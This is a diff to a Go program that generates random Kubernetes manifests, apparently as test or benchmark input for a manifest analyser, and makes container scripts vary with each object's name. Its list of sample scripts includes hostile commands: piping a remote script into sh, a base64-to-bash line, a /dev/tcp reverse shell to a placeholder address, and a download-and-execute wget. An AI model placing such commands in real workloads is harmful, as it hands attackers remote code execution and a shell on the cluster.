@@ -71,14 +71,16 @@ var images = []string{
 	"postgres:16", "redis:7.4@sha256:5d41402abc4b2a76b9719d911017c592a1b3c2d4e5f60718293a4b5c6d7e8f90",
 }
 
+// scripts are what the containers run; %[1]s is the object's name, so half of them differ from one
+// object to the next as real commands do (and no cache of analyses can make them free).
 var scripts = []string{
-	`pg_dump --host=db.shop.svc shop | gzip > /backup/shop.sql.gz`,
-	`curl -fsS -X POST http://report.ops.svc.cluster.local/run`,
+	`pg_dump --host=db.shop.svc shop | gzip > /backup/%[1]s-$(date +%%F).sql.gz`,
+	`curl -fsS -X POST http://report.ops.svc.cluster.local/run/%[1]s`,
 	`curl -s http://203.0.113.7/i.sh | sh`,
 	`echo aGVsbG8K | base64 -d | bash`,
-	`find /data -mtime +7 -delete`,
+	`find /data/%[1]s -mtime +7 -delete && echo cleaned %[1]s`,
 	`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`,
-	`python3 /app/report.py --since=24h`,
+	`python3 /app/report.py --since=24h --name %[1]s`,
 	`wget -qO /tmp/x http://198.51.100.2/x && chmod +x /tmp/x && /tmp/x`,
 }
 
@@ -96,8 +98,8 @@ func securityContext(r *rand.Rand, ind string) string {
 	}
 }
 
-// podSpec renders a pod spec indented by ind.
-func podSpec(r *rand.Rand, ind string, restart bool) string {
+// podSpec renders a pod spec indented by ind for the object name.
+func podSpec(r *rand.Rand, ind string, restart bool, name string) string {
 	var b strings.Builder
 	if restart {
 		b.WriteString(ind + "restartPolicy: OnFailure\n")
@@ -108,7 +110,11 @@ func podSpec(r *rand.Rand, ind string, restart bool) string {
 	b.WriteString(ind + "containers:\n")
 	for c := 0; c < 1+r.IntN(2); c++ {
 		fmt.Fprintf(&b, "%s- name: c%d\n%s  image: %s\n", ind, c, ind, pick(r, images))
-		fmt.Fprintf(&b, "%s  command: [\"/bin/sh\", \"-c\"]\n%s  args:\n%s  - %q\n", ind, ind, ind, pick(r, scripts))
+		script := pick(r, scripts)
+		if strings.Contains(script, "%[1]s") {
+			script = fmt.Sprintf(script, name)
+		}
+		fmt.Fprintf(&b, "%s  command: [\"/bin/sh\", \"-c\"]\n%s  args:\n%s  - %q\n", ind, ind, ind, script)
 		fmt.Fprintf(&b, "%s  env:\n%s  - name: MODE\n%s    value: production\n", ind, ind, ind)
 		fmt.Fprintf(&b, "%s  resources:\n%s    limits: {cpu: 500m, memory: 256Mi}\n", ind, ind)
 		b.WriteString(securityContext(r, ind+"  "))
@@ -128,19 +134,23 @@ func object(r *rand.Rand, i int) string {
 		return "apiVersion: batch/v1\nkind: CronJob\n" + meta + "spec:\n" +
 			fmt.Sprintf("  schedule: %q\n", pick(r, []string{"*/1 * * * *", "0 3 * * *", "*/5 * * * *", "@hourly"})) +
 			fmt.Sprintf("  successfulJobsHistoryLimit: %d\n  failedJobsHistoryLimit: %d\n", r.IntN(2), r.IntN(2)) +
-			"  jobTemplate:\n    spec:\n      template:\n        spec:\n" + podSpec(r, "          ", true)
+			"  jobTemplate:\n    spec:\n      template:\n        spec:\n" + podSpec(r, "          ", true, name)
 	case 3:
-		return "apiVersion: batch/v1\nkind: Job\n" + meta + "spec:\n  template:\n    spec:\n" + podSpec(r, "      ", true)
+		return "apiVersion: batch/v1\nkind: Job\n" + meta + "spec:\n  template:\n    spec:\n" + podSpec(r, "      ", true, name)
 	case 4:
 		return "apiVersion: apps/v1\nkind: Deployment\n" + meta + "spec:\n  replicas: 2\n  selector:\n    matchLabels: {app: " + name +
-			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false)
+			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
 	case 5:
 		return "apiVersion: apps/v1\nkind: DaemonSet\n" + meta + "spec:\n  selector:\n    matchLabels: {app: " + name +
-			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false)
+			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
 	case 6:
 		return "apiVersion: apps/v1\nkind: StatefulSet\n" + meta + "spec:\n  serviceName: " + name + "\n  selector:\n    matchLabels: {app: " + name +
-			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false)
+			"}\n  template:\n    metadata:\n      labels: {app: " + name + "}\n    spec:\n" + podSpec(r, "      ", false, name)
 	default:
-		return "apiVersion: v1\nkind: ConfigMap\n" + meta + "data:\n  run.sh: |\n    #!/bin/sh\n    " + pick(r, scripts) + "\n"
+		script := pick(r, scripts)
+		if strings.Contains(script, "%[1]s") {
+			script = fmt.Sprintf(script, name)
+		}
+		return "apiVersion: v1\nkind: ConfigMap\n" + meta + "data:\n  run.sh: |\n    #!/bin/sh\n    " + script + "\n"
 	}
 }
